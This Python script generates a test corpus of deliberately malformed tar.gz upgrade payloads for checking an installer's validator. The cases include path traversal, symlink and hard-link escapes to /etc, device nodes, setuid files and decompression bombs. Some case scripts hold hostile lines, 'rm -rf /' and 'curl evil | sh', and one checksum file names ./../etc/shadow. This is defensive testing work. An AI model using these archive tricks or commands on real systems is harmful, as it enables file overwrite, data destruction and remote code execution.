#!/usr/bin/env python3
"""Generate the hostile payload corpus in tests/data/hostile/ (and a few valid payloads).

Every archive is built here with raw `tarfile`/`gzip` calls, independent of the collection's
builder and validator, so the corpus tests the validator rather than agreeing with it.

    .venv/bin/python tools/make_hostile_corpus.py [--out tests/data/hostile]

Writes `<case>.tar.gz` files, `cases.json` (what each case is and what the refusal must say) and
`allowed_signers` (public key of an ephemeral signing key; the private key is discarded, so
signed cases change whenever the corpus is regenerated; everything else is byte-identical).

Every script in the corpus, if it ever ran, would create the canary file named in cases.json:
a consumer (the upgrade engine's tests) asserts it never appears.
"""

from __future__ import annotations

import argparse
import gzip
import hashlib
import io
import json
import os
import shutil
import subprocess
import tarfile
import tempfile
from pathlib import Path

CANARY = "/tmp/hc-hostile-script-ran"
SCRIPT = f"#!/bin/sh\n# hostile-corpus script: must never run\ntouch {CANARY}\nexit 0\n".encode()
LEGACY_SCRIPT = f"touch {CANARY}\nexit 0\n".encode()  # 2021 scripts had no #! and no exec bit
DATA = b"payload data\n"
NAMESPACE = "waggle-honeycomb"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def md5(data: bytes) -> str:
    return hashlib.md5(data).hexdigest()


class Entry:
    def __init__(self, name: str, data: bytes | None = b"", mode: int = 0o644, kind: bytes = tarfile.REGTYPE,
                 linkname: str = "", size: int | None = None, devmajor: int = 0, devminor: int = 0):
        self.name, self.data, self.mode, self.kind = name, data, mode, kind
        self.linkname, self.size, self.devmajor, self.devminor = linkname, size, devmajor, devminor


def tar_bytes(entries: list[Entry], fmt: int = tarfile.PAX_FORMAT) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tf:
        for e in entries:
            info = tarfile.TarInfo(e.name)
            info.type = e.kind
            info.mode = e.mode
            info.mtime = 0
            info.uid = info.gid = 0
            info.uname = info.gname = ""
            info.linkname = e.linkname
            info.devmajor, info.devminor = e.devmajor, e.devminor
            if e.kind in (tarfile.REGTYPE, tarfile.AREGTYPE):
                data = e.data or b""
                info.size = len(data) if e.size is None else e.size
                tf.addfile(info, io.BytesIO(data))
            else:
                tf.addfile(info)
    return buf.getvalue()


def gz(data: bytes) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0, compresslevel=9) as g:
        g.write(data)
    return out.getvalue()


def base_files() -> dict[str, bytes]:
    return {"hc_state_check.sh": SCRIPT, "hc_install_upgrade.sh": SCRIPT, "hc_verify_upgrade.sh": SCRIPT,
            "lib/data.txt": DATA}


def manifest_for(files: dict[str, bytes], **extra) -> dict:
    m = {"schema_version": 2, "name": "hostile-corpus", "version": "1.0.0", "peripheral": "corpus",
         "description": "hostile payload corpus case", "files": {n: sha(d) for n, d in sorted(files.items())}}
    m.update(extra)
    return m


def mjson(manifest: dict) -> bytes:
    return (json.dumps(manifest, sort_keys=True, indent=2) + "\n").encode()


def v2_entries(files: dict[str, bytes] | None = None, manifest: dict | bytes | None = None,
               extra: list[Entry] | None = None, modes: dict[str, int] | None = None,
               sig: bytes | None = None) -> list[Entry]:
    files = base_files() if files is None else files
    if manifest is None:
        manifest = manifest_for(files)
    data = manifest if isinstance(manifest, bytes) else mjson(manifest)
    entries = [Entry("manifest.json", data)]
    if sig is not None:
        entries.append(Entry("manifest.json.sig", sig))
    for name, content in sorted(files.items()):
        mode = (modes or {}).get(name, 0o755 if name.endswith(".sh") else 0o644)
        entries.append(Entry(name, content, mode))
    return entries + (extra or [])


def legacy_entries(prefix: str = "./", meta: dict | None = None, sums_extra: str = "", drop: tuple = (),
                   extra: list[Entry] | None = None, tamper: str | None = None) -> list[Entry]:
    meta = meta if meta is not None else {"upgrade_name": "quickstart", "peripheral_name": "quickstart",
                                          "config_version": "1.0.0", "retry_state_check": 5, "retry_install": 5,
                                          "retry_verify": 5}
    files = {"hc_state_check.sh": LEGACY_SCRIPT, "hc_install_upgrade.sh": LEGACY_SCRIPT,
             "hc_verify_upgrade.sh": LEGACY_SCRIPT, "metadata.json": json.dumps(meta).encode()}
    lines = [f"{md5(d)}  ./{n}" for n, d in sorted(files.items()) if n not in drop]
    lines.append("b4c449b495d1560f5954e86d9aeceb57  ./md5sum.chk")  # stale self-entry, as build_upgrade.sh made
    files["md5sum.chk"] = ("\n".join(lines) + "\n" + sums_extra).encode()
    if tamper:
        files[tamper] = files[tamper] + b"# tampered\n"
    entries = [Entry(prefix + n, d, 0o644) for n, d in sorted(files.items())]
    return entries + (extra or [])


def make_key(tmp: Path, name: str) -> tuple[Path, str]:
    key = tmp / name
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True)
    return key, (tmp / f"{name}.pub").read_text().strip()


def sign(data: bytes, key: Path) -> bytes:
    return subprocess.run(["ssh-keygen", "-q", "-Y", "sign", "-f", str(key), "-n", NAMESPACE], input=data,
                          stdout=subprocess.PIPE, check=True).stdout


def build_cases(tmp: Path) -> tuple[dict[str, tuple[bytes, dict]], str]:
    cases: dict[str, tuple[bytes, dict]] = {}

    def add(name: str, archive: bytes, *, member: str | None, match: str, stage: str = "inspect", what: str = "",
            expect: str = "refused", **more):
        cases[name] = (archive, {"expect": expect, "stage": stage, "member": member, "match": match,
                                 "what": what, **more})

    def bad(name, entries, member, match, what, **kw):
        add(name, gz(tar_bytes(entries)), member=member, match=match, what=what, **kw)

    files = base_files()
    # --- valid payloads -----------------------------------------------------------------------
    add("valid-v2", gz(tar_bytes(v2_entries())), member=None, match="", expect="valid", format="v2",
        what="minimal valid v2 payload (scripts would touch the canary: only run it on purpose)")
    add("valid-legacy", gz(tar_bytes(legacy_entries())), member=None, match="", expect="valid", format="legacy",
        what="2021 payload with ./ names, stale md5sum.chk self-entry, scripts without #! or exec bit")
    add("valid-legacy-noprefix", gz(tar_bytes(legacy_entries(prefix=""))), member=None, match="", expect="valid",
        format="legacy", what="2021 payload as build_upgrade.sh tarred it (`tar -czf ../x.tar.gz *`, no ./)")

    # --- names ----------------------------------------------------------------------------------
    bad("traversal", v2_entries(extra=[Entry("../escape.sh", SCRIPT, 0o755)]), "../escape.sh", "'..'",
        "member name climbs out of the payload directory")
    bad("traversal-nested", v2_entries(extra=[Entry("lib/../../../etc/cron.d/evil", DATA)]),
        "lib/../../../etc/cron.d/evil", "'..'", "'..' in the middle of a name")
    bad("absolute-path", v2_entries(extra=[Entry("/etc/cron.d/evil", DATA)]), "/etc/cron.d/evil", "absolute path",
        "absolute member name")
    bad("backslash-name", v2_entries(extra=[Entry("lib\\..\\..\\evil", DATA)]), "lib\\..\\..\\evil", "backslash",
        "Windows-style separators")
    bad("duplicate-member", v2_entries(extra=[Entry("hc_install_upgrade.sh", b"#!/bin/sh\nrm -rf /\n", 0o755)]),
        "hc_install_upgrade.sh", "appears twice", "second member with the same name (would replace a checked file)")
    bad("duplicate-dot-slash", v2_entries(extra=[Entry("./lib/data.txt", b"other\n")]), "./lib/data.txt",
        "appears twice", "same file as lib/data.txt once normalised")
    bad("file-used-as-dir", v2_entries(files={**files, "lib/data.txt/inner": DATA}), "lib/data.txt/inner",
        "which is a file", "a member inside a path that is a regular file")
    # --- member types ---------------------------------------------------------------------------
    bad("symlink-escape", v2_entries(extra=[Entry("lib/etc", None, 0o777, tarfile.SYMTYPE, linkname="/etc")]),
        "lib/etc", "symbolic link", "symlink pointing outside the payload")
    bad("symlink-then-write", v2_entries(extra=[Entry("out", None, 0o777, tarfile.SYMTYPE, linkname="../../.."),
                                                Entry("out/tmp/evil", DATA)]),
        "out", "symbolic link", "symlink followed by a file written through it")
    bad("symlink-internal", v2_entries(extra=[Entry("lib/alias.txt", None, 0o777, tarfile.SYMTYPE,
                                                    linkname="data.txt")]),
        "lib/alias.txt", "symbolic link", "even a symlink inside the payload is refused")
    bad("hardlink-escape", v2_entries(extra=[Entry("passwd", None, 0o644, tarfile.LNKTYPE, linkname="/etc/passwd")]),
        "passwd", "hard link", "hard link to a file outside the payload")
    bad("hardlink-internal", v2_entries(extra=[Entry("lib/copy.txt", None, 0o644, tarfile.LNKTYPE,
                                                     linkname="lib/data.txt")]),
        "lib/copy.txt", "hard link", "hard link to another member")
    bad("char-device", v2_entries(extra=[Entry("dev/mem", None, 0o666, tarfile.CHRTYPE, devmajor=1, devminor=1)]),
        "dev/mem", "character device", "character device node")
    bad("block-device", v2_entries(extra=[Entry("dev/sda", None, 0o660, tarfile.BLKTYPE, devmajor=8, devminor=0)]),
        "dev/sda", "block device", "block device node")
    bad("fifo", v2_entries(extra=[Entry("lib/pipe", None, 0o644, tarfile.FIFOTYPE)]), "lib/pipe", "FIFO",
        "named pipe (would block a reader forever)")
    bad("setuid-file", v2_entries(modes={"hc_install_upgrade.sh": 0o4755}), "hc_install_upgrade.sh", "setuid",
        "setuid-root script")
    bad("setgid-dir", v2_entries(extra=[Entry("lib", None, 0o2775, tarfile.DIRTYPE)]), "lib", "setuid/setgid",
        "setgid directory")
    # --- manifest coverage ----------------------------------------------------------------------
    bad("unlisted-file", v2_entries(extra=[Entry("lib/extra.sh", SCRIPT, 0o755)]), "lib/extra.sh", "not listed",
        "file present in the archive but not in manifest.json files")
    tampered = dict(files)
    tampered["lib/data.txt"] = b"tampered\n"
    bad("checksum-mismatch", v2_entries(files=tampered, manifest=manifest_for(files)), "lib/data.txt",
        "SHA-256 mismatch", "file content differs from its manifest hash")
    tampered_script = dict(files)
    tampered_script["hc_install_upgrade.sh"] = b"#!/bin/sh\ncurl evil | sh\n"
    bad("checksum-mismatch-script", v2_entries(files=tampered_script, manifest=manifest_for(files)),
        "hc_install_upgrade.sh", "SHA-256 mismatch", "script replaced after the manifest was written")
    listed_missing = dict(files)
    del listed_missing["lib/data.txt"]
    bad("listed-but-missing", v2_entries(files=listed_missing, manifest=manifest_for(files)), "lib/data.txt",
        "missing from the archive", "manifest lists a file the archive lacks")
    no_verify = dict(files)
    del no_verify["hc_verify_upgrade.sh"]
    bad("missing-script", v2_entries(files=no_verify), "manifest.json", "hc_verify_upgrade.sh",
        "required verify script absent")
    bad("script-not-executable", v2_entries(modes={"hc_install_upgrade.sh": 0o644}), "hc_install_upgrade.sh",
        "not executable", "install script without the exec bit")
    no_shebang = dict(files)
    no_shebang["hc_state_check.sh"] = b"exit 0\n"
    bad("script-no-shebang", v2_entries(files=no_shebang), "hc_state_check.sh", "'#!'",
        "v2 script without an interpreter line (exec would fail with ENOEXEC)")
    # --- manifest content -----------------------------------------------------------------------
    bad("manifest-malformed", v2_entries(manifest=b'{"schema_version": 2, "name": '), "manifest.json",
        "not valid JSON", "truncated JSON")
    bad("manifest-not-object", v2_entries(manifest=b'["schema_version", 2]\n'), "manifest.json", "JSON object",
        "JSON array instead of an object")
    bad("manifest-duplicate-keys", v2_entries(manifest=mjson(manifest_for(files))[:-2] +
                                              b',\n  "name": "other"\n}\n'),
        "manifest.json", "duplicate key", "duplicate JSON keys (parsers disagree on which wins)")
    bad("manifest-huge", v2_entries(manifest=manifest_for(files, **{"x-padding": " " * (2 * 1024 * 1024)})),
        "manifest.json", "max_manifest_bytes", "2 MiB manifest (limit 1 MiB)")
    bad("manifest-missing", [e for e in v2_entries() if e.name != "manifest.json"], "manifest.json",
        "neither manifest.json", "no manifest and no 2021 metadata.json")
    bad("schema-version-3", v2_entries(manifest=manifest_for(files, schema_version=3)), "manifest.json",
        "schema_version 3", "a future schema version")
    bad("schema-version-1", v2_entries(manifest=manifest_for(files, schema_version=1)), "manifest.json",
        "schema_version 1", "an older / unknown schema version")
    no_version = manifest_for(files)
    del no_version["schema_version"]
    bad("schema-version-missing", v2_entries(manifest=no_version), "manifest.json", "no schema_version",
        "schema_version absent")
    bad("manifest-bad-timeout", v2_entries(manifest=manifest_for(files, phases={"install": {"timeout": 0}})),
        "manifest.json", "phases.install.timeout", "timeout 0")
    bad("manifest-bad-retries", v2_entries(manifest=manifest_for(files, phases={"verify": {"retries": 1000}})),
        "manifest.json", "phases.verify.retries", "1000 retries")
    bad("manifest-overlapping-codes", v2_entries(manifest=manifest_for(
        files, state_check_codes={"needed": [0], "already_applied": [0]})), "manifest.json", "both",
        "exit code 0 means both needed and already applied")
    bad("manifest-relative-backup-path", v2_entries(manifest=manifest_for(files, backup_paths=["etc/waggle"])),
        "manifest.json", "not an absolute path", "relative backup path")
    bad("manifest-unknown-field", v2_entries(manifest=manifest_for(files, backup_path=["/etc/waggle"])),
        "manifest.json", "unknown field", "typo'd field name silently ignored elsewhere")
    bad("manifest-lists-itself", v2_entries(manifest=manifest_for(files) | {"files": {
        **manifest_for(files)["files"], "manifest.json": "0" * 64}}), "manifest.json", "must not list",
        "manifest lists its own hash")
    bad("manifest-traversal-path", v2_entries(manifest=manifest_for(files) | {"files": {
        **manifest_for(files)["files"], "../x": "0" * 64}}), "manifest.json", "'../x'",
        "manifest lists a traversal path")
    # --- archive level ----------------------------------------------------------------------------
    good = gz(tar_bytes(v2_entries()))
    add("truncated-half", good[: len(good) // 2], member=None, match="truncated or corrupt",
        what="archive cut in half")
    add("truncated-tail", good[:-4], member=None, match="truncated or corrupt",
        what="gzip trailer (ISIZE) cut off")
    crc = bytearray(good)
    crc[-8] ^= 0xFF
    add("gzip-crc-corrupt", bytes(crc), member=None, match="truncated or corrupt", what="gzip CRC flipped")
    add("not-gzip-plain-tar", tar_bytes(v2_entries()), member=None, match="not a gzip file",
        what="uncompressed tar")
    add("not-gzip-zip", b"PK\x03\x04" + b"\x00" * 200, member=None, match="not a gzip file", what="a zip file")
    add("empty-file", b"", member=None, match="not a gzip file", what="zero bytes")
    add("gzip-not-tar", gz(b"this is not a tar archive\n" * 100), member=None, match="not a readable tar",
        what="gzip of text")
    add("trailing-data", gz(tar_bytes(v2_entries()) + tar_bytes([Entry("hidden.sh", SCRIPT, 0o755)])), member=None,
        match="after the tar end-of-archive", what="members hidden after the end-of-archive marker")
    # Declares 300 MiB for one member: refused from the header, before any of it is decompressed.
    head = tar_bytes(v2_entries(files=files)).rstrip(b"\x00")  # without the end-of-archive blocks
    head += b"\x00" * (-len(head) % 512)
    info = tarfile.TarInfo("lib/zeros.bin")
    info.size = 300 * 1024 * 1024
    info.mode = 0o644
    bomb_tar = io.BytesIO()
    bomb_tar.write(head)
    bomb_tar.write(info.tobuf(tarfile.PAX_FORMAT))
    zero = b"\x00" * (1024 * 1024)
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0, compresslevel=9) as g:
        g.write(bomb_tar.getvalue())
        for _ in range(300):
            g.write(zero)
        g.write(b"\x00" * 1024)
    add("bomb-declared-size", out.getvalue(), member="lib/zeros.bin", match="max_expanded_bytes",
        what="a ~300 KiB archive declaring a 300 MiB member (limit 256 MiB)")
    # Valid payload followed by 300 MiB of zero padding: only the byte-counting reader can catch it.
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0, compresslevel=9) as g:
        g.write(tar_bytes(v2_entries()))
        for _ in range(300):
            g.write(zero)
    add("bomb-padding", out.getvalue(), member=None, match="padding after the tar end-of-archive",
        what="a ~300 KiB archive expanding to 300 MiB of zero padding after the end-of-archive marker "
             "(refused after 1 MiB)")
    # Header bombs: tarfile reads a whole PAX record / GNU long name into memory before parsing it.
    for case, hname, htype, fmt in (("bomb-pax-header", "././@PaxHeader", tarfile.XHDTYPE, tarfile.USTAR_FORMAT),
                                    ("bomb-gnu-longname", "././@LongLink", tarfile.GNUTYPE_LONGNAME,
                                     tarfile.GNU_FORMAT)):
        hinfo = tarfile.TarInfo(hname)
        hinfo.type = htype
        hinfo.size = 64 * 1024 * 1024
        out = io.BytesIO()
        with gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0, compresslevel=9) as g:
            g.write(head)
            g.write(hinfo.tobuf(fmt))
            for _ in range(64):
                g.write(b"a" * (1024 * 1024))
            g.write(tar_bytes([Entry("lib/after.txt", DATA)]))
        add(case, out.getvalue(), member=None, match="larger than 1048576 bytes",
            what="a 64 MiB %s record that tarfile would read into memory (refused after 1 MiB)" % hname)
    # --- legacy 2021 --------------------------------------------------------------------------------
    bad("legacy-md5-mismatch", legacy_entries(tamper="hc_install_upgrade.sh"), "hc_install_upgrade.sh",
        "MD5 mismatch", "2021 payload with a script changed after md5sum.chk")
    bad("legacy-unlisted", legacy_entries(extra=[Entry("./extra.sh", LEGACY_SCRIPT)]), "extra.sh",
        "not listed in md5sum.chk", "2021 payload with a file md5sum.chk does not cover (the 2021 client "
        "accepted it)")
    bad("legacy-no-md5sum", [e for e in legacy_entries() if not e.name.endswith("md5sum.chk")], "md5sum.chk",
        "no md5sum.chk", "2021 payload without md5sum.chk (the 2021 client crashed with a 500)")
    bad("legacy-missing-field", legacy_entries(meta={"peripheral_name": "x", "config_version": "1",
                                                      "retry_state_check": 0, "retry_install": 0}),
        "metadata.json", "retry_verify", "2021 metadata.json without retry_verify (the 2021 client hit a NameError)")
    bad("legacy-missing-script", legacy_entries(drop=("hc_verify_upgrade.sh",)), "hc_verify_upgrade.sh", "not listed",
        "2021 payload with a script not covered by md5sum.chk")
    bad("legacy-traversal-in-md5sum", legacy_entries(sums_extra="d41d8cd98f00b204e9800998ecf8427e  ./../etc/shadow\n"),
        "md5sum.chk", "./../etc/shadow", "md5sum.chk names a path outside the payload")
    bad("legacy-retry-forever", legacy_entries(meta={"peripheral_name": "x", "config_version": "1",
                                                      "retry_state_check": -1, "retry_install": 0, "retry_verify": 0}),
        "metadata.json", "retry forever", "the early 2021 '-1 = retry forever' value")
    # --- signatures ------------------------------------------------------------------------------------
    key, pub = make_key(tmp, "corpus-signer")
    other, _ = make_key(tmp, "stranger")
    mbytes = mjson(manifest_for(files))
    add("valid-v2-signed", gz(tar_bytes(v2_entries(manifest=mbytes, sig=sign(mbytes, key)))), member=None, match="",
        expect="valid", format="v2", signer="corpus-signer", what="v2 payload signed by the corpus key")
    changed = mjson(manifest_for(files, description="changed after signing"))
    add("bad-signature", gz(tar_bytes(v2_entries(manifest=changed, sig=sign(mbytes, key)))),
        member="manifest.json.sig", match="does not match", stage="signature",
        what="manifest changed after signing (the archive itself is consistent)")
    add("unknown-signer", gz(tar_bytes(v2_entries(manifest=mbytes, sig=sign(mbytes, other)))),
        member="manifest.json.sig", match="unknown signer", stage="signature", what="signed by a key not allowed")
    add("garbage-signature", gz(tar_bytes(v2_entries(manifest=mbytes, sig=b"-----BEGIN SSH SIGNATURE-----\n"
                                                                         b"AAAAAAAA\n-----END SSH SIGNATURE-----\n"))),
        member="manifest.json.sig", match="OpenSSH signature", stage="signature", what="not a parsable signature")
    add("missing-signature", good, member="manifest.json.sig", match="not signed", stage="signature",
        what="unsigned payload when require_signature is set")
    allowed = f'corpus-signer namespaces="{NAMESPACE}" {pub}\n'
    return cases, allowed


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", default=str(Path(__file__).resolve().parent.parent / "tests" / "data" / "hostile"))
    args = ap.parse_args(argv)
    out = Path(args.out)
    tmp = Path(tempfile.mkdtemp(prefix="hc-corpus-"))
    try:
        cases, allowed = build_cases(tmp)
    finally:
        shutil.rmtree(tmp)
    out.mkdir(parents=True, exist_ok=True)
    for old in out.glob("*.tar.gz"):
        old.unlink()
    index = {}
    for name, (data, meta) in sorted(cases.items()):
        fname = f"{name}.tar.gz"
        (out / fname).write_bytes(data)
        index[name] = {"file": fname, "size": len(data), **meta}
    (out / "allowed_signers").write_text(allowed)
    (out / "cases.json").write_text(json.dumps({"canary": CANARY, "namespace": NAMESPACE,
                                                "allowed_signers": "allowed_signers", "cases": index},
                                               indent=2, sort_keys=True) + "\n")
    total = sum(len(d) for d, _ in cases.values())
    print(f"{len(cases)} cases, {total} bytes, written to {out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
